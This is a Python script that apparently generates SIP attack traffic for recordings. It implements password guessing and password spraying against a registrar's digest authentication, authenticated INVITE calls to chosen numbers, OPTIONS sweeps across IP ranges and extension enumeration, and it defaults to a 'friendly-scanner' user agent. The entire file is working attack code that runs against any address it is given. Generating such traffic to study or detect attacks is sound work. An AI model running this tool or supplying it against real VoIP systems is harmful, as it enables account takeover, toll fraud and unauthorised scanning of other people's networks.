#!/usr/bin/env python3
"""attacker.py - what scripts on the Internet do to registrars, for recordings of it.

usage: attacker.py SOURCE REGISTRAR [--agent NAME] [--pause SECONDS] STEP...

A STEP is one argument of words:
  guess ACCOUNT PASSWORD...     registers, answering the challenge with each password in turn
  spray PASSWORD FIRST LAST     the same password for every account
  call ACCOUNT PASSWORD NUMBER  an INVITE that answers the challenge
  sweep FIRST LAST              OPTIONS to every address in the range, waiting for none
  extensions METHOD FIRST LAST  REGISTER or INVITE for each extension, giving up at a challenge

It prints one JSON line for each attempt: when, what kind, which account, where to, its Call-ID
and the status of each answer it had.
"""
import argparse
import hashlib
import ipaddress
import itertools
import json
import re
import socket
import time

ANSWER_S = 1.0
CHALLENGES = {401: ("WWW-Authenticate", "Authorization"),
              407: ("Proxy-Authenticate", "Proxy-Authorization")}


def md5(text):
    return hashlib.md5(text.encode()).hexdigest()


class Attacker:
    def __init__(self, options):
        self.options = options
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((options.source, 5060))
        self.socket.settimeout(ANSWER_S)
        self.serial = itertools.count(1)

    def fresh(self):
        return md5(f"{self.options.source} {next(self.serial)}")[:16]

    def message(self, method, uri, account, call, cseq, **more):
        here = f"{self.options.source}:5060"
        branch = more.pop("branch", None) or self.fresh()
        tag = f";tag={more.pop('to_tag')}" if more.get("to_tag") else ""
        domain = self.options.registrar
        to = account if method in ("REGISTER", "OPTIONS") else re.split("[:@]", uri)[1]
        lines = [f"{method} {uri} SIP/2.0", f"Via: SIP/2.0/UDP {here};branch=z9hG4bK{branch}",
                 f"From: <sip:{account}@{domain}>;tag={call[:8]}",
                 f"To: <sip:{to}@{domain}>{tag}", f"Call-ID: {call}",
                 f"CSeq: {cseq} {method}", f"Contact: <sip:{account}@{here}>",
                 "Max-Forwards: 70", f"User-Agent: {self.options.agent}"]
        lines += [f"{name.replace('_', '-')}: {value}" for name, value in more.items() if value]
        return ("\r\n".join([*lines, "Content-Length: 0"]) + "\r\n\r\n").encode()

    def send(self, data, host=None):
        self.socket.sendto(data, (host or self.options.registrar, 5060))

    def answer(self, call, cseq):
        """The final answer to a request, as (status, text)."""
        end = time.monotonic() + ANSWER_S
        while time.monotonic() < end:
            try:
                text = self.socket.recv(65536).decode()
            except socket.timeout:
                break
            status = int(text.split()[1]) if text.startswith("SIP/2.0") else 0
            if status >= 200 and call in text and f"\r\nCSeq: {cseq} " in text:
                return status, text
        return None, ""

    def try_once(self, kind, method, uri, account, password=None):
        """One attempt; without a password it ends at the challenge."""
        call, at, statuses, credentials = self.fresh(), time.time(), [], {}
        for cseq in (1, 2):
            branch = self.fresh()
            self.send(self.message(method, uri, account, call, cseq, branch=branch,
                                   Expires="60" if method == "REGISTER" else None,
                                   **credentials))
            status, text = self.answer(call, cseq)
            statuses.append(status)
            if method == "INVITE" and status:
                tag = re.search(r"\r\nTo: [^\r]*;tag=([^\r;]+)", text).group(1)
                self.send(self.message("ACK", uri, account, call, cseq, branch=branch,
                                       to_tag=tag))
            if status not in CHALLENGES or password is None:
                break
            asked, answers = CHALLENGES[status]
            credentials = {answers.replace("-", "_"):
                           self.digest(text, asked, method, uri, account, password)}
        print(json.dumps({"at": at, "kind": kind, "method": method, "account": account,
                          "uri": uri, "sip_call_id": call, "statuses": statuses}), flush=True)
        time.sleep(self.options.pause)

    @staticmethod
    def digest(text, asked, method, uri, account, password):
        """RFC 2617 without qop, which the registrar does not ask for."""
        challenge = re.search(rf"\r\n{asked}: Digest ([^\r]*)", text).group(1)
        said = dict(re.findall(r'(\w+)="([^"]*)"', challenge))
        response = md5(":".join((md5(f"{account}:{said['realm']}:{password}"), said["nonce"],
                                 md5(f"{method}:{uri}"))))
        return (f'Digest username="{account}", realm="{said["realm"]}", '
                f'nonce="{said["nonce"]}", uri="{uri}", response="{response}"')

    def guess(self, account, *passwords):
        for password in passwords:
            self.try_once("guess", "REGISTER", f"sip:{self.options.registrar}", account,
                          password)

    def spray(self, password, first, last):
        for account in range(int(first), int(last) + 1):
            self.try_once("spray", "REGISTER", f"sip:{self.options.registrar}", str(account),
                          password)

    def call(self, account, password, number):
        self.try_once("call", "INVITE", f"sip:{number}@{self.options.registrar}", account,
                      password)

    def extensions(self, method, first, last):
        for extension in range(int(first), int(last) + 1):
            if method == "REGISTER":
                uri = f"sip:{self.options.registrar}"
                self.try_once("extensions", method, uri, str(extension))
            else:
                uri = f"sip:{extension}@{self.options.registrar}"
                self.try_once("extensions", method, uri, "100")

    def sweep(self, first, last):
        hosts = range(int(ipaddress.ip_address(first)), int(ipaddress.ip_address(last)) + 1)
        for host in map(str, map(ipaddress.ip_address, hosts)):
            call = self.fresh()
            print(json.dumps({"at": time.time(), "kind": "sweep", "method": "OPTIONS",
                              "dst": host, "sip_call_id": call}), flush=True)
            self.send(self.message("OPTIONS", f"sip:100@{host}", "100", call, 1), host)
            time.sleep(self.options.pause)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("source")
    parser.add_argument("registrar")
    parser.add_argument("steps", nargs="+", metavar="STEP")
    parser.add_argument("--agent", default="friendly-scanner")
    parser.add_argument("--pause", type=float, default=0.02)
    options = parser.parse_args()
    attacker = Attacker(options)
    for step in options.steps:
        verb, *words = step.split()
        {"guess": attacker.guess, "spray": attacker.spray, "call": attacker.call,
         "sweep": attacker.sweep, "extensions": attacker.extensions}[verb](*words)


main()
